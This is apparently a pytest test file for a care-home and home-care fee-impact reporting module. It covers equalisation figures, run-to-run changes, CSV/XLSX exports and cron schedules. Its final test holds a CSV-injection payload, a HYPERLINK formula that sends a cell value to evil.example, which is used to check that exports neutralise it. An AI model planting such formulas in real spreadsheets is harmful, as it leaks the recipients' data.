"""Fee-impact reports: figures from the equalisation runs, changes between runs, CSV and XLSX
holding the same figures as the JSON, and definition validation."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from caremarket import reports as R
from caremarket.analyses import equalisation
from caremarket.scenario_store import get_scenario, save_scenario
from caremarket.store import content_hash
from market.errors import UnknownEntity
from market.scenarios import Scenario


def _sample_run(db) -> dict:
    """The run `load_sample` made of the sample report."""
    runs = R.list_runs(db, R.SAMPLE_REPORT)["items"]
    assert runs and runs[-1]["trigger"] == "sample"
    return R.get_run(db, runs[-1]["id"])


def test_the_sample_market_ships_with_a_report_already_run(sample_db):
    defs = R.list_definitions(sample_db)
    assert [d["name"] for d in defs] == [R.SAMPLE_MSP, R.SAMPLE_REPORT]  # the pack too
    d = defs[1]
    assert d["enabled"] and d["cron"] == "0 6 * * 1" and d["runs"] == 1
    assert d["scenarios"] == [s[0] for s in R.SAMPLE_SCENARIOS]
    run = _sample_run(sample_db)
    assert run["status"] == "done" and run["input_hash"] == content_hash(sample_db)
    assert run["changes"] is None  # the first run has nothing to compare with


def test_headline_figures_are_the_equalisation_results_of_each_scenario(sample_db):
    run = R.run_report(sample_db, R.SAMPLE_REPORT, "manual", user="tester")
    options = R.report_options(run["measures"])
    assert run["headline"]["scenarios"] == [s[0] for s in R.SAMPLE_SCENARIOS]
    for name in run["headline"]["scenarios"]:
        expected = equalisation(sample_db, dict(get_scenario(sample_db, name).values), options)
        assert run["results"][name]["headline"] == expected["headline"]
        for row in run["headline"]["rows"]:
            assert row["values"][name] == R.headline_value(expected["headline"], row["measure"])
        # the recorded model run behind the column is that equalisation, on the same data
        rec = sample_db["runs"].get(run["results"][name]["run_id"])
        assert rec["kind"] == "equalisation" and rec["input_hash"] == run["input_hash"]
        assert json.loads(rec["params"])["scenario_name"] == name
    fig = {(r["measure"], sc): v for r in run["headline"]["rows"]
           for sc, v in r["values"].items()}
    half, full, nlw = (s[0] for s in R.SAMPLE_SCENARIOS)
    # s18(3) at full take-up loses all the cross-subsidy, at half take-up exactly half of it
    assert fig[("cross_subsidy_lost", full)] == pytest.approx(fig[("cross_subsidy_before", full)])
    assert fig[("cross_subsidy_lost", half)] == pytest.approx(
        fig[("cross_subsidy_lost", full)] / 2, rel=1e-9)
    assert fig[("extra_la_spend", full)] > fig[("extra_la_spend", half)] > 0
    assert fig[("beds_at_risk_after", full)] > fig[("beds_at_risk_before", full)]
    # a 5% LA uplift cuts the extra spend needed below the baseline's
    baseline = equalisation(sample_db, {}, options)["headline"]
    assert fig[("extra_la_spend", nlw)] < baseline["extra_la_spend"]
    assert fig[("unmet_hours_after", full)] >= fig[("unmet_hours_before", full)]
    assert fig[("coverage_after", full)] <= fig[("coverage_before", full)]
    # every headline measure group asked for is there, and only those
    assert {r["group"] for r in run["headline"]["rows"]} == set(run["measures"])


def test_detail_tables_add_up_to_the_headline(sample_db):
    run = _sample_run(sample_db)
    tables = {t["name"]: t for t in run["detail"]}
    assert set(tables) == {"classes", "rurality", "groups", "care_homes", "homecare_providers",
                           "unmet_zones", "excluded"}
    # the records left out: one row per scenario, record and reason, as each run's `excluded`
    for sc, res in run["results"].items():
        ex = (res["excluded"] or {}).get("by_reason") or {}
        assert sorted((r[1], r[2]) for r in tables["excluded"]["rows"] if r[0] == sc) == sorted(
            (i, code) for code, item in ex.items() for i in item["ids"])
    fig = {(r["measure"], sc): v for r in run["headline"]["rows"]
           for sc, v in r["values"].items()}

    def rows(name):
        keys = [c["key"] for c in tables[name]["columns"]]
        return [dict(zip(keys, r, strict=True)) for r in tables[name]["rows"]]

    for sc in run["headline"]["scenarios"]:
        homes = [r for r in rows("care_homes") if r["scenario"] == sc]
        assert len(homes) == fig[("care_homes", sc)]
        assert sum(h["cross_subsidy_lost"] for h in homes) == pytest.approx(
            fig[("cross_subsidy_lost", sc)], rel=1e-9)
        assert sum(h["extra_la_spend"] for h in homes) == pytest.approx(
            fig[("extra_la_spend", sc)], rel=1e-9)
        for c in R.CLASSES:
            assert sum(h["beds"] for h in homes if h["class_after"] == c) == pytest.approx(
                fig[(f"beds_by_class.after.{c}", sc)])
            by_class = next(r for r in rows("classes") if r["scenario"] == sc
                            and r["class"] == c)
            assert by_class["homes_after"] == fig[(f"homes_by_class.after.{c}", sc)]
        rural = [r for r in rows("rurality") if r["scenario"] == sc]
        assert sum(r["beds_not_sustainable_after"] for r in rural) == pytest.approx(
            fig[("beds_at_risk_after", sc)])
        exits = [r for r in rows("homecare_providers") if r["scenario"] == sc and r["exited"]]
        assert len(exits) == fig[("homecare_exits", sc)]
        added = sum(r["unmet_added"] for r in rows("unmet_zones") if r["scenario"] == sc)
        assert added == pytest.approx(fig[("unmet_hours_after", sc)]
                                      - fig[("unmet_hours_before", sc)], rel=1e-6, abs=1e-6)
    params = {r["name"]: r for r in run["parameters"]["rows"]}
    nlw = R.SAMPLE_SCENARIOS[2][0]
    assert params["care_worker_hourly_wage"]["values"][nlw] == 12.71
    assert params["care_worker_hourly_wage"]["default"] == 12.21
    assert params["la_fee_change"]["overridden"] == [nlw]


def _headline(run):
    return {(sc, r["measure"]): v for r in run["headline"]["rows"]
            for sc, v in r["values"].items()}


def test_changes_since_the_previous_run(sample_db):
    first = _sample_run(sample_db)
    same = R.run_report(sample_db, R.SAMPLE_REPORT)
    assert same["changes"]["previous"]["id"] == first["id"]
    assert not same["changes"]["changed"]
    assert same["changes"]["summary"].startswith("no change")
    assert all(r["changed"] == [] for r in same["headline"]["rows"])

    # the council raises its care-home fees by 10%: new data, new figures
    with sample_db.atomic():
        sample_db.execute("update care_homes set la_fee = min(la_fee * 1.10, self_funder_fee)")
    raised = R.run_report(sample_db, R.SAMPLE_REPORT)
    ch = raised["changes"]
    assert ch["input_hash_changed"] and ch["input_hash_before"] == first["input_hash"]
    assert ch["input_hash_after"] == content_hash(sample_db) == raised["input_hash"]
    before, after = _headline(same), _headline(raised)
    spend = {(f["scenario"], f["measure"]): f for f in ch["headline"]}
    for sc in raised["headline"]["scenarios"]:
        f = spend[(sc, "extra_la_spend")]
        assert f["before"] == before[(sc, "extra_la_spend")]
        assert f["after"] == after[(sc, "extra_la_spend")] < f["before"]
        assert f["change"] == pytest.approx(f["after"] - f["before"])
        assert (sc, "care_homes") not in spend  # the number of homes did not change
    row = next(r for r in raised["headline"]["rows"] if r["measure"] == "extra_la_spend")
    assert row["changed"] == raised["headline"]["scenarios"]
    assert row["previous"] == {sc: before[(sc, "extra_la_spend")]
                               for sc in raised["headline"]["scenarios"]}
    assert ch["providers"], "some care homes change class when LA fees rise 10%"
    assert "the data changed" in ch["summary"]

    # a scenario edited: a parameter change, same data
    nlw = R.SAMPLE_SCENARIOS[2][0]
    sc = get_scenario(sample_db, nlw)
    save_scenario(sample_db, Scenario(nlw, {**sc.values, "la_fee_change": 0.08}))
    edited = R.run_report(sample_db, R.SAMPLE_REPORT)
    assert not edited["changes"]["input_hash_changed"]
    assert edited["changes"]["parameters"] == [{
        "scenario": nlw, "name": "la_fee_change", "label": pytest.approx(
            "Relative change of LA fees"), "before": 0.05, "after": 0.08}]
    changed = {f["scenario"] for f in edited["changes"]["headline"]}
    assert changed == {nlw}

    cmp = R.compare_runs(sample_db, first["id"], edited["id"])
    assert cmp["a"]["id"] == first["id"] and cmp["b"]["id"] == edited["id"]
    a, b = _headline(first), _headline(edited)
    for r in cmp["rows"]:
        for s in cmp["scenarios"]:
            assert r["a"][s] == a[(s, r["measure"])] and r["b"][s] == b[(s, r["measure"])]
            if r["a"][s] is not None:
                assert r["change"][s] == pytest.approx(r["b"][s] - r["a"][s])
    assert cmp["changes"]["input_hash_changed"]


def _csv_headline(text: str) -> dict[tuple[str, str], str]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and list(rows[0]) == list(R.CSV_COLUMNS)
    return {(r["scenario"], r["measure"]): r["value"] for r in rows
            if r["section"] == "headline"}


def test_csv_and_xlsx_hold_the_same_figures_as_the_json(sample_db):
    import openpyxl

    # a report with a change highlighted and every measure, Monte Carlo and sweep included
    names = [s[0] for s in R.SAMPLE_SCENARIOS[:2]]
    R.create_definition(sample_db, "All measures", names, "30 7 1 * *", list(R.MEASURES))
    R.run_report(sample_db, "All measures")
    with sample_db.atomic():
        sample_db.execute("update care_homes set occupancy = occupancy * 0.98")
    run = json.loads(json.dumps(R.run_report(sample_db, "All measures")))  # as the API sends
    assert run["changes"]["headline"]
    figures = _headline(run)
    assert len(figures) == len(run["headline"]["rows"]) * 2 and None not in figures.values()

    text = R.to_csv(run)
    from_csv = _csv_headline(text)
    assert set(from_csv) == set(figures)
    for key, value in figures.items():
        assert float(from_csv[key]) == value  # exact: floats are written unrounded
    rows = list(csv.DictReader(io.StringIO(text)))
    meta = {r["measure"]: r["value"] for r in rows if r["section"] == "report"}
    assert meta["input_hash"] == run["input_hash"] and meta["run_id"] == str(run["id"])
    homes = next(t for t in run["detail"] if t["name"] == "care_homes")
    lost = {(r["scenario"], r["item"]): float(r["value"]) for r in rows
            if r["section"] == "care_homes" and r["measure"] == "cross_subsidy_lost"}
    keys = [c["key"] for c in homes["columns"]]
    for r in homes["rows"]:
        rec = dict(zip(keys, r, strict=True))
        assert lost[(rec["scenario"], rec["provider_id"])] == rec["cross_subsidy_lost"]
    changes = [r for r in rows if r["section"] == "changes" and r["measure"] == "after"]
    assert len(changes) == len(run["changes"]["headline"])
    sections = {r["section"] for r in rows}
    assert {"uncertainty", "sweep", "parameters"} <= sections

    wide = list(csv.reader(io.StringIO(R.table_csv(run, "headline"))))
    assert wide[0] == ["measure", "label", "unit", *names]
    for line in wide[1:]:
        for sc, v in zip(names, line[3:], strict=True):
            assert float(v) == figures[(sc, line[0])]
    with pytest.raises(UnknownEntity, match="no table 'nope'"):
        R.table_csv(run, "nope")

    wb = openpyxl.load_workbook(io.BytesIO(R.to_xlsx(run)), read_only=True)
    assert wb.sheetnames[:3] == ["Headline", "Headline table", "About"]
    assert {"Care homes", "Classes", "By rurality", "By group", "Home-care providers",
            "Unmet hours by zone", "Uncertainty", "Take-up sweep", "Parameters",
            "Changes"} <= set(wb.sheetnames)
    it = wb["Headline"].iter_rows(values_only=True)
    header = list(next(it))
    from_xlsx = {}
    for row in it:
        rec = dict(zip(header, row, strict=True))
        from_xlsx[(rec["scenario"], rec["measure"])] = rec["value"]
    # XLSX keeps 16 significant digits (openpyxl writes floats with '%.16g')
    assert set(from_xlsx) == set(figures)
    for key, value in figures.items():
        assert from_xlsx[key] == pytest.approx(value, rel=1e-15, abs=0), key
    it = wb["Headline table"].iter_rows(values_only=True)
    header = list(next(it))
    assert header == ["measure", "label", "unit", *names]
    for row in it:
        for sc, v in zip(names, row[3:], strict=True):
            assert v == pytest.approx(figures[(sc, row[0])], rel=1e-15, abs=0)
    sheet = list(wb["Care homes"].iter_rows(values_only=True))
    assert list(sheet[0]) == keys and len(sheet) - 1 == len(homes["rows"])
    for got, want in zip(sheet[1:], homes["rows"], strict=True):
        assert [pytest.approx(w, rel=1e-15, abs=0) if isinstance(w, float) else w
                for w in want] == list(got)
    about = {r[0]: r[1] for r in wb["About"].iter_rows(values_only=True)}
    assert about["Content hash of the data (SHA-256)"] == run["input_hash"]
    changed = list(wb["Changes"].iter_rows(values_only=True))[1:]
    assert len(changed) == len(run["changes"]["headline"])
    wb.close()


def test_definitions_are_validated_with_clear_errors(sample_db):
    ok = [R.SAMPLE_SCENARIOS[0][0]]
    cases = [
        (("Bad", ok, "0 6 * *"), "give 5 fields"),
        (("Bad", ok, "0 25 * * 1"), "higher than the maximum value"),
        (("Bad", ok, "0 6 * * 9"), "'9' is not a weekday"),
        (("Bad", ok, "0 6 * * 5-1"), "runs backwards"),
        (("Bad", ok, ""), "give 5 fields"),
        (("Bad", ["No such scenario"], "0 6 * * 1"), "unknown scenario(s) 'No such scenario'"),
        (("Bad", [], "0 6 * * 1"), "at least one saved scenario"),
        (("", ok, "0 6 * * 1"), "needs a name"),
        (("a/b", ok, "0 6 * * 1"), "no '/'"),
        (("Compare", ok, "0 6 * * 1"), "is reserved"),
        ((R.SAMPLE_REPORT, ok, "0 6 * * 1"), "exists already"),
    ]
    for args, message in cases:
        with pytest.raises(R.InvalidReport) as err:
            R.create_definition(sample_db, *args)
        assert message in str(err.value), (args, str(err.value))
    with pytest.raises(R.InvalidReport, match="unknown measure"):
        R.create_definition(sample_db, "Bad", ok, "0 6 * * 1", ["cross_subsidy", "vibes"])
    assert [d["name"] for d in R.list_definitions(sample_db)] == [R.SAMPLE_MSP,
                                                                  R.SAMPLE_REPORT]

    d = R.create_definition(sample_db, "Monthly", ok, " 0  7 1 * * ", "classes, cross_subsidy",
                            user="admin@example.org")
    assert d["cron"] == "0 7 1 * *" and d["measures"] == ["cross_subsidy", "classes"]
    d = R.update_definition(sample_db, "Monthly", {"cron": "15 8 * * mon-fri",
                                                   "enabled": "false"}, user="a")
    assert d["cron"] == "15 8 * * mon-fri" and not d["enabled"] and d["next_run_at"] is None
    with pytest.raises(R.InvalidReport, match="cannot be renamed"):
        R.update_definition(sample_db, "Monthly", {"name": "Other"})
    with pytest.raises(R.InvalidReport, match="cannot change colour"):
        R.update_definition(sample_db, "Monthly", {"colour": "red"})
    with pytest.raises(R.InvalidReport, match="higher than the maximum"):
        R.update_definition(sample_db, "Monthly", {"cron": "99 * * * *"})
    assert R.get_definition(sample_db, "Monthly")["cron"] == "15 8 * * mon-fri"
    R.update_definition(sample_db, "Monthly", {"enabled": True})
    run = R.run_report(sample_db, "Monthly")
    R.delete_definition(sample_db, "Monthly", user="a")
    with pytest.raises(UnknownEntity, match="no report called 'Monthly'"):
        R.get_definition(sample_db, "Monthly")
    assert R.get_run(sample_db, run["id"])["status"] == "done"  # runs outlive the definition
    actions = [r["action"] for r in sample_db["audit_log"].rows_where(
        "target = ?", ["Monthly"], order_by="id")]
    assert actions == ["report.create", "report.update", "report.update", "report.run",
                       "report.delete"]


def test_crontab_weekdays_count_from_sunday_in_london_time():
    tue = datetime(2025, 1, 7, 12, 0, tzinfo=UTC)
    assert R.next_firing("0 6 * * 1", tue) == datetime(2025, 1, 13, 6, 0, tzinfo=UTC)  # Monday
    for sunday in ("0", "7", "sun", "Sunday"):
        assert R.next_firing(f"0 6 * * {sunday}", tue).weekday() == 6
    week = R.firings("0 6 * * 1-5", tue, datetime(2025, 1, 14, 12, 0, tzinfo=UTC))
    assert [t.weekday() for t in week] == [2, 3, 4, 0, 1]
    every_other = R.firings("0 6 * * */2", tue, datetime(2025, 1, 14, 12, 0, tzinfo=UTC))
    assert [t.strftime("%a") for t in every_other] == ["Thu", "Sat", "Sun", "Tue"]
    # 06:00 in London is 05:00 UTC in summer
    assert R.next_firing("0 6 * * *", datetime(2025, 7, 1, tzinfo=UTC)) == datetime(
        2025, 7, 1, 5, 0, tzinfo=UTC)
    assert R.last_firing("0 6 * * 1", tue) == datetime(2025, 1, 6, 6, 0, tzinfo=UTC)
    assert R.last_firing("0 6 * * 1", datetime(2025, 1, 6, 6, 0, tzinfo=UTC)) == datetime(
        2025, 1, 6, 6, 0, tzinfo=UTC)
    assert R.last_firing("0 6 1 1 *", tue) == datetime(2025, 1, 1, 6, 0, tzinfo=UTC)
    assert R.last_firing("0 6 2 1 *", tue) == datetime(2025, 1, 2, 6, 0, tzinfo=UTC)
    assert R.last_firing("* * * * *", tue) == tue
    assert R.stamp(tue) == "2025-01-07T12:00:00+00:00"


def test_a_failing_run_is_recorded_and_the_next_one_compares_with_the_last_good_one(
        sample_db):
    name = R.SAMPLE_SCENARIOS[1][0]
    R.create_definition(sample_db, "Fragile", [name], "0 6 * * *", ["cross_subsidy"])
    good = R.run_report(sample_db, "Fragile")
    values = dict(get_scenario(sample_db, name).values)
    # gone from under the report (delete_scenario refuses while a report uses it)
    with sample_db.atomic():
        sample_db.execute("delete from scenarios where name = ?", [name])
    with pytest.raises(R.ReportFailed) as err:
        R.run_report(sample_db, "Fragile", user="analyst@example.org")
    failed = R.get_run(sample_db, err.value.run_id)
    assert failed["status"] == "failed" and f"no scenario called '{name}'" in failed["error"]
    assert failed["finished_at"] and "headline" not in failed
    audit = list(sample_db["audit_log"].rows_where("action = 'report.run'", order_by="id"))
    assert json.loads(audit[-1]["detail"])["status"] == "failed"
    assert audit[-1]["user"] == "analyst@example.org"
    save_scenario(sample_db, Scenario(name, values))
    again = R.run_report(sample_db, "Fragile")
    assert again["status"] == "done"
    assert again["changes"]["previous"]["id"] == good["id"]
    history = R.list_runs(sample_db, "Fragile")
    assert [r["status"] for r in history["items"]] == ["done", "failed", "done"]
    assert history["total"] == 3 and history["items"][1]["error"] == failed["error"]


def test_a_claimed_firing_is_not_run_again(sample_db):
    R.create_definition(sample_db, "Once", [R.SAMPLE_SCENARIOS[0][0]], "0 6 * * *",
                        ["cross_subsidy"])
    firing = datetime(2025, 1, 6, 6, 0, tzinfo=UTC)
    first = R.run_report(sample_db, "Once", "schedule", firing)
    assert first["scheduled_for"] == "2025-01-06T06:00:00+00:00"
    assert R.run_report(sample_db, "Once", "schedule", firing) is None
    assert R.claim_run(sample_db, "Once", R.stamp(firing), "schedule", R.stamp(firing)) is None
    assert R.list_runs(sample_db, "Once")["total"] == 1


def test_names_that_look_like_formulas_are_inert_in_csv_and_xlsx():
    import csv
    import io

    import openpyxl

    from caremarket.reports import _text, _xl

    evil = '=HYPERLINK("http://evil.example/?x="&B2,"Oak")'
    assert _text(evil) == "'" + evil and _xl(evil) == "'" + evil
    for s in ("+1", "-cmd", "@SUM(A1)", "\tx"):
        assert _text(s).startswith("'")
    assert _text(-5.0) == "-5.0" and _xl(-5.0) == -5.0  # numbers stay numbers
    assert _text("Oak House") == "Oak House"
    wb = openpyxl.Workbook()
    wb.active.append([_xl(evil)])
    buf = io.BytesIO()
    wb.save(buf)
    cell = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active["A1"]
    assert cell.data_type == "s"  # text, not a formula
    assert next(csv.reader([_text(evil)]))[0].startswith("'=")
